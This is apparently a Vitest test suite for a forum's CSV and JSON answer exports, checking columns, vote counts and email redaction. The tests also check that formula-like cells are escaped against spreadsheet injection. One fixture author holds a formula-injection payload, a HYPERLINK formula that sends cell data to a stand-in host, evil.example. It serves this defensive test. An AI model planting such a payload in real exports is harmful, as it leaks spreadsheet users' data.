import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commentPlainText } from '../../src/exports/plain-text.js';
import { storeComment } from '../support/comments.js';
import { startTestForum, type TestForum } from '../support/forum.js';

let forum: TestForum;
const SLUG = 'what-is-concluded';
const ids: Record<string, number> = {};
beforeAll(async () => {
  forum = await startTestForum();
  ids.first = await storeComment(forum.db, SLUG, {
    author: 'Ana Lopes',
    email: 'ana.secret@example.org',
    body: 'First paragraph, with <em>emphasis</em> & a "quote".\n\nSecond paragraph,\nwith a break.',
    createdAt: new Date('2026-11-01T10:00:00Z'),
  });
  ids.reply = await storeComment(forum.db, SLUG, {
    author: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    email: 'mallory@example.org',
    body: '+1 agreed',
    parentId: ids.first,
  });
  ids.formulas = await storeComment(forum.db, SLUG, { author: '@Sam', body: '-2+3' });
  ids.tab = await storeComment(forum.db, SLUG, { author: 'Tab', body: '=1+1 and more' });
  ids.held = await storeComment(forum.db, SLUG, { author: 'Held', body: 'Not yet published.', status: 'pending' });
  ids.spam = await storeComment(forum.db, SLUG, { author: 'Spammer', body: 'Buy now.', status: 'spam' });
});
afterAll(() => forum.close());

describe('answers as CSV', () => {
  it('has one row per published answer with the contract columns, and no emails', async () => {
    const res = await forum.browser().get(`/questions/${SLUG}/answers.csv`).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="?${SLUG}-answers.csv"?$`));
    expect(res.text).not.toContain('@example.org');
    const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([
      'id',
      'parent_id',
      'author',
      'created_at',
      'text',
      'agree',
      'disagree',
      'pass',
    ]);
    expect(rows.map((r) => Number(r.id))).toEqual([ids.first, ids.reply, ids.formulas, ids.tab]);
    expect(rows[0]).toEqual({
      id: String(ids.first),
      parent_id: '',
      author: 'Ana Lopes',
      created_at: '2026-11-01T10:00:00.000Z',
      text: 'First paragraph, with emphasis & a "quote".\n\nSecond paragraph,\nwith a break.',
      agree: '0',
      disagree: '0',
      pass: '0',
    });
    expect(rows[1]?.parent_id).toBe(String(ids.first));
  });

  it('carries each answer’s vote counts', async () => {
    const voter = forum.browser();
    await voter.get(`/questions/${SLUG}`).expect(200);
    const page = await voter.get(`/questions/${SLUG}`).expect(200);
    const csrf = /name="_csrf" value="([^"]+)"/.exec(page.text)?.[1] ?? '';
    await voter
      .post(`/comments/${ids.tab}/vote`)
      .set('Accept', 'application/json')
      .type('form')
      .send({ vote: 'disagree', _csrf: csrf })
      .expect(200);
    const res = await forum.browser().get(`/questions/${SLUG}/answers.csv`).expect(200);
    const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.find((r) => Number(r.id) === ids.tab)).toMatchObject({ agree: '0', disagree: '1', pass: '0' });
  });

  it('escapes cells a spreadsheet would run as formulas', async () => {
    const res = await forum.browser().get(`/questions/${SLUG}/answers.csv`).expect(200);
    const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
    const byId = new Map(rows.map((r) => [Number(r.id), r]));
    expect(byId.get(ids.reply as number)).toMatchObject({
      author: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      text: "'+1 agreed",
    });
    expect(byId.get(ids.formulas as number)).toMatchObject({ author: "'@Sam", text: "'-2+3" });
    expect(byId.get(ids.tab as number)).toMatchObject({ text: "'=1+1 and more" });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-\D/);
  });

  it('is a 404 for a question that does not exist', async () => {
    await forum.browser().get('/questions/no-such-question/answers.csv').expect(404);
  });
});

describe('answers as JSON', () => {
  it('gives analysts the published answers with text, html and votes, without emails', async () => {
    const res = await forum.browser().get(`/questions/${SLUG}/answers.json`).expect(200);
    expect(res.body.question).toMatchObject({ slug: SLUG, url: `/questions/${SLUG}` });
    expect(res.body.answers.map((a: { id: number }) => a.id)).toEqual([ids.first, ids.reply, ids.formulas, ids.tab]);
    expect(res.body.answers[1]).toEqual({
      id: ids.reply,
      parent_id: ids.first,
      author: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      created_at: expect.any(String),
      text: '+1 agreed',
      html: '<p>+1 agreed</p>',
      agree: 0,
      disagree: 0,
      pass: 0,
    });
    expect(res.text).not.toContain('@example.org');
  });
});

describe('commentPlainText', () => {
  it('keeps paragraphs and breaks and reads entities back once', () => {
    expect(
      commentPlainText(
        '<p>a &amp;lt;b&amp;gt; &lt;i&gt;<br />\nc</p>\n<blockquote>\n<p>q</p>\n</blockquote>\n<p>d</p>',
      ),
    ).toBe('a &lt;b&gt; <i>\nc\n\nq\n\nd');
  });
});

describe('the thread page', () => {
  it('links its answers as CSV and JSON', async () => {
    const res = await forum.browser().get(`/questions/${SLUG}`).expect(200);
    expect(res.text).toContain(`href="/questions/${SLUG}/answers.csv"`);
    expect(res.text).toContain(`href="/questions/${SLUG}/answers.json"`);
  });
});
